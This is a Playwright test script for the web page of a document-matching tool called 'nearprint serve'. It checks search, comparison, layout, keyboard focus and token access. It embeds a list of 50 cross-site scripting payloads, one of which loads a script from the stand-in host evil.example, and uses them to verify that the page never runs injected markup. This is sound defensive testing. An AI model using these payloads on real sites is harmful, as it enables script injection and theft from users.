// Uses the page of `nearprint serve` in headless Chromium, and writes screenshots. Ends with 1 if something is wrong.
import { spawn, execFileSync } from "node:child_process";
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { resolve } from "node:path";
import { createRequire } from "node:module";

const [nearprint, folder] = process.argv.slice(2).map((path) => resolve(path));
const { chromium } = createRequire(resolve("package.json"))("playwright-core");
const TOKEN = "0123456789abcdef0123456789abcdef";

// Each calls `alert` or sets `window.executed`, if it is executed.
const executes = "window.executed=1";
const SCRIPTS = [
  `<script>${executes}</script>`, `"><script>${executes}</script>`, `</textarea><script>${executes}</script>`,
  `</script><script>${executes}</script>`, `<img src=x onerror=${executes}>`, `"><img src=x onerror="${executes}">`,
  `<svg onload=${executes}>`, `<svg><script>${executes}</script></svg>`, `<body onload=${executes}>`,
  `<iframe srcdoc="<script>parent.executed=1</script>">`, `<iframe src="javascript:parent.executed=1">`,
  `<a href="javascript:${executes}" autofocus onfocus=${executes}>x</a>`, `<input autofocus onfocus=${executes}>`,
  `<details open ontoggle=${executes}>`, `<video src=x onerror=${executes}>`, `<audio src=x onerror=${executes}>`,
  `<object data="javascript:${executes}">`, `<embed src="javascript:${executes}">`, `<math><mtext><script>${executes}</script>`,
  `<style>@import "javascript:${executes}";</style>`, `<link rel=stylesheet href="javascript:${executes}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${executes}">`, `<base href="javascript:${executes}//">`,
  `<form action="javascript:${executes}"><button autofocus>x</button></form>`, `<marquee onstart=${executes}>x</marquee>`,
  `<select autofocus onfocus=${executes}>`, `<textarea autofocus onfocus=${executes}>`, `<keygen autofocus onfocus=${executes}>`,
  `<template><script>${executes}</script></template>`, `<noscript><p title="</noscript><script>${executes}</script>">`,
  `';${executes};//`, `";${executes};//`, "`;" + executes + ";//", "${" + executes + "}", "{{" + executes + "}}",
  `javascript:${executes}`, `data:text/html,<script>${executes}</script>`, `<!--><script>${executes}</script>-->`,
  `<![CDATA[<script>${executes}</script>]]>`, `&lt;script&gt;${executes}&lt;/script&gt;`, `&#60;script&#62;${executes}&#60;/script&#62;`,
  `\u003cscript\u003e${executes}\u003c/script\u003e`, `%3Cscript%3E${executes}%3C/script%3E`, `<scr<script>ipt>${executes}</scr</script>ipt>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script type=module>${executes}</script>`, `<x onclick=${executes} tabindex=1 autofocus onfocus=${executes}>`,
  `<p style="animation: x" onanimationstart=${executes}>`, `<button popovertarget=x onbeforetoggle=${executes}>x</button>`,
  `<dialog open oncancel=${executes}><script>${executes}</script></dialog>`,
];

const words = (seed, n) => {
  let state = seed * 2654435761 >>> 0;
  const next = () => (state = (state * 1664525 + 1013904223) >>> 0) / 2 ** 32;
  return Array.from({ length: n }, () => Array.from({ length: 4 + next() * 5 }, () => "abcdefghijklmnopqrstuvwxyz"[Math.floor(next() * 26)]).join("")).join(" ");
};

const failures = [];
const check = (what, holds) => {
  console.log(`${holds ? "ok " : "BAD"} ${what}`);
  if (!holds) failures.push(what);
};

rmSync(folder, { recursive: true, force: true });
mkdirSync(`${folder}/documents/dt=2026-11-20`, { recursive: true });
writeFileSync(`${folder}/token`, TOKEN);
writeFileSync(`${folder}/job.toml`, 'documents = "documents"\nstore = "store"\noutput = "results"\n');
const zh = "今天上午，市图书馆新馆正式开放。新馆位于江边，藏书两百万册，设有儿童阅览室、音乐厅和一个面向江面的露台。馆长表示，读者凭身份证即可免费入馆，周一闭馆，其余日子从早上九点开到晚上九点。首日有三千多名读者到访。";
const rows = SCRIPTS.map((script, i) => ({ id: `${script} a${i}`, text: `${script} ${words(i + 1, 80)} ${script}` }));
rows.push(
  { id: "https://news.example/2026/11/20/library-opens?from=front-page", text: zh },
  { id: "https://mirror.example/library", text: zh.replace("三千多名", "四千多名") + "（本报讯）" },
  { id: "press/harbour-bridge", text: "The new harbour bridge was opened on Friday after four years of work. " + words(900, 60) },
);
writeFileSync(`${folder}/documents/dt=2026-11-20/part-0.jsonl`, rows.map((row) => JSON.stringify(row)).join("\n"));
execFileSync(nearprint, ["run", "--config", "job.toml", "--dt", "2026-11-20", "--create-store", "--no-breakers"], { cwd: folder });

const servers = [];
process.on("exit", () => servers.forEach((server) => server.kill()));

async function served(more) {
  const args = ["serve", "--config", "job.toml", "--listen", "127.0.0.1:0", "--json", ...more];
  const server = spawn(nearprint, args, { cwd: folder, stdio: ["ignore", "pipe", "inherit"] });
  servers.push(server);
  const line = await new Promise((done) => server.stdout.once("data", (data) => done(String(data))));
  return { server, address: JSON.parse(line.split("\n")[0]).address };
}

const browser = await chromium.launch({
  executablePath: "/usr/bin/chromium",
  args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"],
});

async function opened(address, settings = {}) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, ...settings });
  const page = await context.newPage();
  const seen = { executed: 0, outside: [], console: [] };
  page.on("dialog", (dialog) => { seen.executed += 1; dialog.dismiss(); });
  page.on("request", (request) => { if (!request.url().startsWith(address) && !request.url().startsWith("data:")) seen.outside.push(request.url()); });
  page.on("console", (message) => { if (message.type() === "error") seen.console.push(message.text()); });
  page.on("pageerror", (error) => seen.console.push(String(error)));
  await page.goto(address);
  return { page, seen, context };
}

async function search(page, text) {
  await page.getByLabel("Text of the page").fill(text);
  await page.getByRole("button", { name: "Search" }).click();
  await page.locator("#found:not([hidden]), #problem:not([hidden])").first().waitFor();
  await page.locator("#search:not([aria-disabled])").waitFor();
}

async function compare(page, nth = 0) {
  await page.getByRole("button", { name: /^Compare/ }).nth(nth).click();
  await page.locator("#comparison:not([hidden])").waitFor();
}

const open = await served([]);
{
  const { page, seen, context } = await opened(open.address);
  const refused = await page.evaluate(() => {
    try {
      document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.control = 1'>");
      return false;
    } catch {
      return true;
    }
  });
  check("the policy refuses HTML that is made from text", refused && (await page.evaluate(() => window.control)) === undefined);
  await context.close();
}
{
  const { page, seen, context } = await opened(open.address);
  let listed = 0, compared = 0;
  for (const [i, script] of SCRIPTS.entries()) {
    await search(page, rows[i].text + " and");
    listed += (await page.locator("td.id").allTextContents()).some((id) => id.startsWith(script.slice(0, 8)) && id.includes(` a${i}`));
    await compare(page);
    compared += (await page.locator("#diff").textContent()).length > 10;
    if (await page.evaluate(() => window.executed !== undefined)) seen.executed += 1;
  }
  check(`${SCRIPTS.length} scripts as texts and ids: ${listed} listed, ${compared} compared, ${seen.executed} executed`, listed === SCRIPTS.length && compared === SCRIPTS.length && seen.executed === 0 && SCRIPTS.length === 50);
  const made = await page.evaluate(() => document.querySelectorAll("main script, main img, main svg, main iframe, main object, main embed, main a, main video").length);
  check(`elements that texts made: ${made}`, made === 0);
  check(`requests to other places: ${seen.outside.length}`, seen.outside.length === 0);
  check(`errors of the page: ${seen.console}`, seen.console.length === 0);
  await context.close();
}
for (const [name, viewport] of [["phone", { width: 390, height: 844 }], ["desktop", { width: 1280, height: 900 }]]) {
  for (const colorScheme of ["light", "dark"]) {
    const { page, seen, context } = await opened(open.address, { viewport, colorScheme });
    await search(page, zh.replace("两百万册", "三百万册"));
    check(`${name}, ${colorScheme}: matches`, (await page.locator("td.id").count()) === 2);
    await compare(page);
    check(`${name}, ${colorScheme}: no sideways scrolling`, await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth));
    check(`${name}, ${colorScheme}: no errors ${seen.console}`, seen.console.length === 0);
    await page.screenshot({ path: `${folder}/${name}-${colorScheme}.png`, fullPage: true });
    await context.close();
  }
}
{
  const { page, context } = await opened(open.address);
  await page.keyboard.press("Tab");
  await page.keyboard.press("Tab");
  await page.keyboard.type(zh);
  await page.keyboard.press("Control+Enter");
  await page.locator("#found:not([hidden])").waitFor();
  check("by keyboard: the heading of the result has the focus", await page.evaluate(() => document.activeElement.id === "found"));
  await page.keyboard.press("Tab");
  await page.keyboard.press("Enter");
  await page.locator("#comparison:not([hidden])").waitFor();
  check("by keyboard: the heading of the comparison has the focus", await page.evaluate(() => document.activeElement.id === "compared"));
  const fingerprint = (await page.locator("#about").textContent()).split(" ")[1];
  await page.getByLabel("A fingerprint").check();
  await page.getByLabel("Fingerprint", { exact: true }).fill(fingerprint);
  await page.keyboard.press("Enter");
  await page.locator("#problem").waitFor({ state: "hidden" });
  await page.locator("#search:not([aria-disabled])").waitFor();
  check("by fingerprint: the documents", (await page.locator("td.id").count()) === 2);
  await compare(page);
  check("by fingerprint: two documents compared", (await page.locator("#diff ins, #diff del").count()) > 0);
  await page.getByLabel("Fingerprint", { exact: true }).fill("twelve");
  await page.keyboard.press("Enter");
  await page.locator("#problem:not([hidden])").waitFor();
  await page.screenshot({ path: `${folder}/problem.png`, fullPage: true });
  await context.close();
}
open.server.kill();
const closed = await served(["--token-file", "token"]);
{
  const { page, context } = await opened(closed.address, { viewport: { width: 390, height: 844 } });
  await search(page, zh);
  check("without the token: a problem", await page.locator("#problem").isVisible());
  await page.screenshot({ path: `${folder}/token.png`, fullPage: true });
  for (const [token, found] of [["wrong", false], [TOKEN, true]]) {
    await page.getByLabel("Token of this server").fill(token);
    await search(page, zh);
    check(`with the token ${token.slice(0, 5)}…: ${found ? "matches" : "a problem"}`, (await page.locator("#matches").isVisible()) === found);
  }
  await search(page, zh);
  check("the token is asked for once", (await page.locator("#matches").isVisible()) && !(await page.locator("#of-token").isVisible()));
  check("the token is not in the address or in storage", await page.evaluate((token) => !location.href.includes(token) && localStorage.length === 0 && sessionStorage.length === 0 && document.cookie === "", TOKEN));
  await context.close();
}
closed.server.kill();
await browser.close();
process.exit(failures.length ? 1 : 0);
